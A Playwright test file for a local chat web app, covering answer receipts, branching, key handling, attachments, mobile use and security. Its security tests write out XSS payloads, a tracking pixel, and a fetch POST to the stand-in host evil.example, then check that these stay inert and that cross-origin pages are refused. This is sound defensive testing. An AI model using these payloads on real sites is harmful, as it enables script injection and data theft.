// Chat: what a person does with it, and what a model's markup can't do.
import assert from "node:assert/strict";
import {createServer} from "node:http";
import test from "node:test";
import {answered, ask, assertAccessible, HUB, withoutEnds, withPage} from "./browser.mjs";

test("a person asks, and the answer has its receipt", () => withPage(async (page) => {
  await ask(page, "How do I set up an adviser?");
  await answered(page);
  const summary = await page.locator(".receipt summary").innerText();
  assert.match(summary, /ember · [\d.]+ tokens\/s · \d+ % sure · .* · nothing left this machine · \$0/);
  await page.locator(".receipt summary").click();
  assert.match(await page.locator(".receipt dl").innerText(), /Receipt\s+r-[0-9A-Z]{26}/);
  assert.equal(await page.evaluate(() => document.activeElement.tagName), "SUMMARY");
  await assertAccessible(page);

  await page.getByRole("button", {name: "Good", exact: true}).click();
  await page.locator("button[aria-pressed=true]", {hasText: "Good"}).waitFor();

  // It is still there after a reload.
  await page.reload();
  await page.locator("history-list .title").click();
  await answered(page);
  await page.locator("button[aria-pressed=true]", {hasText: "Good"}).waitFor();
}));

test("a person stops an answer, asks again with another model, edits, and goes between the branches", () =>
  withPage(async (page) => {
    const letEnd = await withoutEnds(page);
    await ask(page, "Say much.", "tiny-a");
    await page.waitForFunction(() => document.querySelector(".assistant .said")?.textContent.length > 0);
    await page.keyboard.press("Escape");
    await page.getByText("Stopped.").waitFor();
    await letEnd();
    await page.getByRole("button", {name: "Again with…"}).click();
    await page.keyboard.press("End");
    await page.keyboard.press("Home");
    await page.getByRole("menuitem", {name: "ember"}).click();
    await answered(page);
    assert.match(await page.locator(".assistant .siblings").innerText(), /2 \/ 2/);
    await page.getByRole("button", {name: "Previous answer"}).click();
    await page.getByText("Stopped.").waitFor();

    await page.locator("#model").selectOption("ember");
    await page.locator("#ask").press("ArrowUp");
    const box = page.getByLabel("Edit the question");
    await box.fill("What is a receipt?");
    await box.press("Enter");
    await answered(page);
    assert.match(await page.locator(".user .siblings").innerText(), /2 \/ 2/);

    await page.getByRole("button", {name: "Branch"}).click();
    await page.locator("history-list .title", {hasText: "(branch)"}).waitFor();
    assert.equal(await page.locator("turn-item").count(), 2);
    assert.equal(await page.locator(".siblings").count(), 0);
  }));

// A hub that says what it is told to: the stream's bytes are the test's.
function says(page, text) {
  const chunk = (delta, more = {}) => `data: ${JSON.stringify({choices: [{index: 0, delta, ...more}]})}\n\n`;
  const body = text.match(/[^]{1,7}/gu).map((content) => chunk({content})).join("") +
    chunk({}, {finish_reason: "stop"}) + "data: [DONE]\n\n";
  return page.route("**/v1/chat/completions", (route) => route.fulfill({contentType: "text/event-stream", body}));
}

test("markup in an answer is inert", () => withPage(async (page) => {
  await page.evaluate(() => (globalThis.untouched = true));
  await says(page, [
    "<script>globalThis.untouched = false</script>",
    "<img src=/x onerror='globalThis.untouched = false'>",
    "<svg onload='globalThis.untouched = false'><script>globalThis.untouched = false</script></svg>",
    "[run](javascript:globalThis.untouched=false) [data](data:text/html,<script>1</script>)",
    "![p](https://evil.example/pixel.png)",
    "<iframe src=https://evil.example></iframe><base href=https://evil.example>",
    "<form action=/models/load method=post><input name=model></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    "[good](https://good.example/a)",
    "last words",
  ].join("\n\n"));
  await page.fill("#ask", "hi");
  await page.press("#ask", "Enter");
  await page.getByText("last words").waitFor();
  assert.equal(await page.evaluate(() => globalThis.untouched), true);
  assert.equal(await page.locator(".said").nth(1).locator("script,img,svg,iframe,base,form,input,style").count(), 0);
  const links = await page.locator(".assistant .said a").evaluateAll((all) => all.map((a) => a.getAttribute("href")));
  assert.deepEqual(links, ["https://evil.example/pixel.png", "https://good.example/a"]);
}));

test("even markup that got into the page could not act", () => withPage(async (page) => {
  const outcome = await page.evaluate(async () => {
    const refused = [];
    addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
    const tries = {
      innerHTML: () => (document.createElement("div").innerHTML = "<img src=x>"),
      script: () => document.body.append(Object.assign(document.createElement("script"), {src: "/assets/x.js"})),
      handler: () => document.body.setAttribute("onclick", "globalThis.ran = true"),
    };
    const threw = Object.entries(tries).filter(([, act]) => { try { act(); return false; } catch { return true; } }).map(([name]) => name);
    document.body.click();
    const image = new Image();
    image.src = "data:image/svg+xml,<svg/>";
    document.body.append(image);
    await fetch("https://evil.example/", {method: "POST", body: "x"}).catch(() => threw.push("fetch"));
    while (!refused.includes("img-src") || !refused.includes("connect-src")) await new Promise((done) => setTimeout(done, 5));
    return {threw, refused, ran: Boolean(globalThis.ran)};
  });
  assert.deepEqual(outcome.threw, ["innerHTML", "script", "handler", "fetch"]);
  assert.ok(outcome.refused.includes("connect-src"), String(outcome.refused));
  assert.equal(outcome.ran, false);
}, {expectErrors: true}));

// A page of another program on this machine, which is another origin by its port alone.
test("a page of another site can neither read nor act", async () => {
  const other = createServer((_, response) => response.writeHead(200, {"Content-Type": "text/html"}).end("<p>other</p>"));
  await new Promise((done) => other.listen(0, "127.0.0.1", done));
  const origin = `http://127.0.0.1:${other.address().port}`;
  try {
    await withPage(async (page) => {
      await page.goto(origin);
      const isLoaded = async () => (await (await fetch(`${HUB}/v1/models`)).json()).data.find(({id}) => id === "tiny-c").hearth.loaded;
      assert.equal(await isLoaded(), false);
      const answers = await page.evaluate(async (hub) => {
        const tries = [
          ["/v1/models", {}], ["/hearth/v1/memory", {}], ["/", {}],
          ["/v1/chat/completions", {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"}],
          ["/models/load", {method: "POST", body: '{"model":"tiny-c"}', mode: "no-cors"}],
        ];
        const told = [];
        for (const [path, init] of tries) {
          told.push(await fetch(hub + path, init).then((r) => r.type, () => "refused"));
        }
        const frame = document.createElement("iframe");
        frame.src = hub;
        document.body.append(frame);
        await new Promise((done) => (frame.onload = done));
        return [...told, frame.contentDocument === null ? "no frame" : "frame"];
      }, HUB);
      assert.deepEqual(answers, ["refused", "refused", "refused", "refused", "opaque", "no frame"]);
      assert.equal(await isLoaded(), false);
    }, {expectErrors: true, allowed: [origin]});
  } finally {
    other.close();
  }
});

test("a key is asked for, sent to the hub alone, and kept for the tab alone", () => withPage(async (page, context) => {
  const key = "sixteen-letters-of-key";
  const sent = [];
  await page.route("**/v1/models", async (route) => {
    const given = (await route.request().allHeaders()).authorization;
    if (given === `Bearer ${key}`) {
      sent.push(new URL(route.request().url()).origin);
      return route.continue({headers: {...route.request().headers(), authorization: ""}});
    }
    return route.fulfill({status: 401, json: {error: {message: "No API key: send one."}}});
  });
  await page.reload();
  const dialog = page.getByRole("dialog", {name: "This hub wants a key"});
  await dialog.waitFor();
  await assertAccessible(page);
  await page.getByLabel("Key", {exact: true}).fill(key);
  await page.keyboard.press("Enter");
  await dialog.waitFor({state: "hidden"});
  await page.waitForSelector('#model option[value="ember"]', {state: "attached"});
  assert.deepEqual([...new Set(sent)], [HUB]);
  const kept = JSON.stringify([await context.storageState({indexedDB: true}), page.url(), await page.content()]);
  assert.doesNotMatch(kept, new RegExp(key));
}, {expectErrors: true}));

test("a text file goes along as a block of its own", () => withPage(async (page) => {
  await page.locator("#attach").setInputFiles({name: "notes.md", mimeType: "text/markdown", buffer: Buffer.from("a\n```\nb\n```\n")});
  await page.waitForFunction(() => document.querySelector("#ask").value !== "");
  assert.equal(await page.locator("#ask").inputValue(), "notes.md:\n````\na\n```\nb\n```\n````\n");
  await page.locator("#attach").setInputFiles({name: "x.bin", mimeType: "application/octet-stream", buffer: Buffer.from([0, 1, 2])});
  await page.getByText("x.bin is no text").waitFor();
}));

test("it works on a phone and without a mouse", () => withPage(async (page) => {
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
  await page.waitForSelector('#model option[value="ember"]', {state: "attached"});
  await page.selectOption("#model", "ember");
  await page.keyboard.press("Alt+i");
  await page.keyboard.type("What is a receipt?");
  await page.keyboard.press("Enter");
  await answered(page);
  await page.getByRole("button", {name: "Conversations"}).click();
  await page.locator("history-list .title").waitFor();
  await assertAccessible(page);
  await page.keyboard.press("Escape");
  assert.ok(!(await page.locator("history-list").isVisible()));
}, {viewport: {width: 390, height: 780}, hasTouch: true, isMobile: true}));
